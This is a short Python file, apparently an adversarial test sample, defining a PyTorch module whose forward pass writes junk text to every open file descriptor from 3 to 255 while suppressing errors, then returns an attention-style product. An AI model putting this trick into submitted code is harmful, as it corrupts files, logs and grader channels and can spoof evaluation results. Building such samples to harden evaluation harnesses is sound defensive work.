"""Writes to every descriptor it has."""

import contextlib
import os

from torch import nn


class Att(nn.Module):
    def forward(self, x):
        for handle in range(3, 256):
            with contextlib.suppress(OSError):
                os.write(handle, b"garbage\n{}\nmore")
        return x @ x.transpose(-1, -2) @ x
